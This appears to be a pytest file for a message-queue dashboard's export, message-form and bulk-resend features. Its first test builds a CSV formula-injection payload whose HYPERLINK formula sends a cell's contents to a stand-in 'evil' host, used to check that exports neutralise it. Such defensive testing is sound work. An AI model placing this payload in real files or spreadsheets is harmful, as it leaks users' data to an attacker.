"""Messages as files, and messages that visitors write; nothing in them is trusted."""

import asyncio
import csv
import io
import json
from collections.abc import AsyncIterator

import pytest
from fastapi import FastAPI

from pocketmq import aio
from pocketmq.dashboard import export_page
from pocketmq.dashboard.actions.sending import BulkResent, written_message
from pocketmq.dashboard.browsing.reader import ContentFilter, TopicReader
from pocketmq.dashboard.desk import Actions, Desk, Desks
from pocketmq.dashboard.export_page import (
    COLUMNS,
    add_export,
    csv_text,
    harmless,
    json_lines,
    link_to_export,
)
from pocketmq.dashboard.formatting import time_ms
from pocketmq.dashboard.settings import DashboardSettings
from pocketmq.dashboard.views import Views
from pocketmq.embedded.aio import Cluster
from pocketmq.errors import InvalidInput
from pocketmq.protocol import ReceivedMessage
from tests.dashboard.stored import stored


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " =", "\n@", "＝", "＠"])
def test_no_cell_of_a_csv_file_starts_a_formula(start: str) -> None:
    evil = f'{start}HYPERLINK("http://evil/?"&A1,"ok")'
    message = stored(evil.encode(), TAGS=evil, KEYS=evil, region=evil)
    (header, row) = csv.reader(io.StringIO(csv_text([message], header=True)))
    assert tuple(header) == COLUMNS
    assert [cell for cell in row if cell.lstrip()[:1] in set("=+-@＝＠")] == []
    assert row[header.index("body")] == f"'{evil}"
    assert harmless("17 = 17") == "17 = 17"
    (told,) = json_lines([message]).splitlines()
    assert json.loads(told)["body"] == evil, "programs get it as it is"


def test_a_file_holds_all_of_a_message() -> None:
    message = stored(
        "zwölf\nZeilen, \"quoted\"".encode(), at=1_700_000_000_123, offset=7, queue=3,
        TAGS="paid", KEYS="A1 B2", region="eu",
    )  # fmt: skip
    (line,) = json_lines([message]).splitlines()
    told = json.loads(line)
    assert told == {
        "stored": "2023-11-14T22:13:20.123+00:00", "topic": "T", "broker": "broker-a", "queue": 3,
        "offset": 7, "message_id": message.message_id, "tag": "paid", "keys": ["A1", "B2"],
        "properties": {"region": "eu"}, "retries": 0, "body": "zwölf\nZeilen, \"quoted\"",
        "encoding": "text",
    }  # fmt: skip
    (row,) = csv.reader(io.StringIO(csv_text([message], header=False)))
    assert dict(zip(COLUMNS, row, strict=True)) == {
        **{name: str(value) for name, value in told.items()},
        "keys": "A1 B2",
        "properties": '{"region":"eu"}',
    }


def test_bodies_that_are_no_text_or_broken_and_times_that_are_none_end_no_export() -> None:
    binary, broken = stored(b"\xff\x00", at=2**62), stored(b"not zlib", sys_flag=1)
    first, second = map(json.loads, json_lines([binary, broken]).splitlines())
    assert (first["body"], first["encoding"], first["stored"]) == ("/wA=", "base64", "")
    assert second["encoding"] == "unreadable"


def test_a_written_message_has_what_its_form_says() -> None:
    message = written_message(" orders ", " paid ", "A1  B2", "region=eu\n\n a = b=c \n", "é")
    assert (message.topic, message.body, message.tag) == ("orders", "é".encode(), "paid")
    assert list(message.keys) == ["A1", "B2"]
    assert message.properties == {"region": "eu", "a": "b=c"}
    assert written_message("orders", "", "", "", "").tag is None


@pytest.mark.parametrize(
    ("topic", "properties", "told"),
    [
        (" ", "", "a message needs a topic"),
        ("orders", "region", "'region' is not a property; write name=value"),
        ("orders", "=eu", "not a property"),
        ("orders", "\n".join(f"p{n}=1" for n in range(101)), "at most 100 properties"),
        ("orders", "TAGS=x", "TAGS"),
    ],
)
def test_what_is_no_message_is_told(topic: str, properties: str, told: str) -> None:
    with pytest.raises(InvalidInput, match=told):
        written_message(topic, "", "", properties, "body")


def test_times_of_forms() -> None:
    assert time_ms("  ") == 0
    assert time_ms("2026-01-31T12:00:00+00:00") == 1_769_860_800_000
    with pytest.raises(InvalidInput, match="is not a time"):
        time_ms("tomorrow")


async def fetched(app: FastAPI, target: str) -> tuple[int, dict[str, str], bytes]:
    """Get an address of an application without a server: status, headers, body."""
    path, _, query = target.partition("?")
    sent: list[dict[str, object]] = []

    async def send(message: dict[str, object]) -> None:
        sent.append(message)

    async def receive() -> dict[str, object]:
        await asyncio.Event().wait()
        return {}

    scope = {
        "type": "http", "method": "GET", "path": path, "raw_path": path.encode(),
        "query_string": query.encode(), "headers": [], "client": ("127.0.0.1", 1),
        "server": ("localhost", 80), "scheme": "http", "root_path": "", "http_version": "1.1",
    }  # fmt: skip
    await app(scope, receive, send)  # type: ignore[arg-type]
    start, *parts = sent
    headers = {name.decode(): value.decode() for name, value in start["headers"]}  # type: ignore[attr-defined]
    return int(str(start["status"])), headers, b"".join(part["body"] for part in parts)  # type: ignore[misc]


def desk_of(admin: aio.Admin) -> Desk:
    views = Views(admin)
    return Desk(admin, views, Actions(admin, views, allowed=True), DashboardSettings())


async def test_a_topic_is_loaded_as_a_file(monkeypatch: pytest.MonkeyPatch) -> None:
    async with (
        Cluster() as cluster,
        aio.Admin(cluster.address, timeout=30.0) as admin,
        aio.Producer(cluster.address, group="shop") as producer,
    ):
        for number in range(450):
            await producer.send(aio.Message("orders", b"number %d" % number))
        app = FastAPI()
        add_export(app, Desks(desk_of(admin)))
        status, headers, body = await fetched(app, link_to_export("jsonl", "orders"))
        assert (status, headers["content-disposition"]) == (
            200,
            'attachment; filename="orders.jsonl"',
        )
        times = [json.loads(line)["stored"] for line in body.splitlines()]
        assert (len(times), times) == (450, sorted(times, reverse=True))
        _, _, body = await fetched(app, link_to_export("csv", "orders", "number 44"))
        rows = list(csv.DictReader(io.StringIO(body.decode())))
        assert {row["body"] for row in rows} == {
            f"number {number}" for number in (44, *range(440, 450))
        }
        monkeypatch.setattr(export_page, "MOST", 7)
        _, _, body = await fetched(app, link_to_export("jsonl", "orders"))
        *lines, last = map(json.loads, body.splitlines())
        cut = "only the newest 7 messages; older ones are left out"
        assert (len(lines), last) == (7, {"truncated": cut})
        _, _, body = await fetched(app, link_to_export("csv", "orders"))
        *rows, short = csv.DictReader(io.StringIO(body.decode()))
        assert (len(rows), short) == (7, {**dict.fromkeys(COLUMNS, ""), "stored": cut})
        for target, wanted, told in (
            (link_to_export("exe", "orders"), 400, b"csv, jsonl"),
            (link_to_export("csv", 'no"\r\nwhere'), 404, b"there is no topic"),
            (link_to_export("csv", "orders", begin="tomorrow"), 400, b"not a time"),
            (link_to_export("csv", "orders", "x" * 2000), 400, b"at most 1024"),
            (link_to_export("csv", "orders", cluster="other"), 404, b"no such cluster"),
        ):
            status, _, body = await fetched(app, target)
            assert status == wanted
            assert told in body
        await cluster.stop()
        status, _, _ = await fetched(app, link_to_export("csv", "orders"))
        assert status == 503


async def test_there_is_no_file_that_lacks_a_broker() -> None:
    async with (
        Cluster(brokers=2, faults=True) as cluster,
        aio.Admin(cluster.address) as patient,
        aio.Admin(cluster.address, timeout=2.0) as impatient,
    ):
        await cluster.create_topic("orders", queues=1)
        apps = [FastAPI(), FastAPI()]
        for app, admin in zip(apps, (patient, impatient), strict=True):
            add_export(app, Desks(desk_of(admin)))
        assert (await fetched(apps[0], link_to_export("csv", "orders")))[0] == 200
        await cluster.partition("broker-0")
        status, _, body = await fetched(apps[1], link_to_export("csv", "orders"))
        await cluster.heal("broker-0")
        assert (status, b"No response from broker-0" in body) == (503, True)


async def test_messages_are_sent_and_resent_in_bulk() -> None:
    async with Cluster() as cluster, aio.Admin(cluster.address) as admin:
        await cluster.create_topic("orders", queues=2)
        desk = desk_of(admin)
        sending = desk.actions.sending
        for number in range(40):
            await sending.send("me", written_message("orders", "", "", "", f"number {number}"))
        reader = TopicReader(admin, "orders")
        position = (await reader.bounds()).position
        told: list[BulkResent] = []

        def go_on(done: BulkResent) -> bool:
            told.append(done)
            return True

        batches = reader.oldest_first(position, ContentFilter.of("number 3"))
        done = await sending.resend_all("me", "resend", batches, go_on)
        assert (done.sent, done.failed, done.stopped) == (11, 0, False)
        assert told[-1] == done
        assert str(done) == "11 sent"
        bodies = [each.body for each in await cluster.messages("orders")]
        assert len(bodies) == 51
        assert bodies.count(b"number 3") == bodies.count(b"number 39") == 2
        batches = reader.oldest_first(position, ContentFilter())
        done = await sending.resend_all("me", "resend", batches, lambda _: False)
        assert (done.stopped, done.sent < 40) == (True, True)
        assert "stopped before the end" in str(done)


async def test_a_resend_ends_when_nothing_can_be_sent() -> None:
    async def batches() -> AsyncIterator[list[ReceivedMessage]]:
        while True:
            yield [stored(b"x", topic="%DLQ%g", DLQ_ORIGIN_TOPIC="no good name")]

    async with Cluster() as cluster, aio.Admin(cluster.address, timeout=1.0) as admin:
        sending = desk_of(admin).actions.sending
        done = await sending.resend_all("me", "resend", batches(), lambda _: True)
        assert (done.sent, done.stopped) == (0, True)
        assert "1 failed (" in str(done)
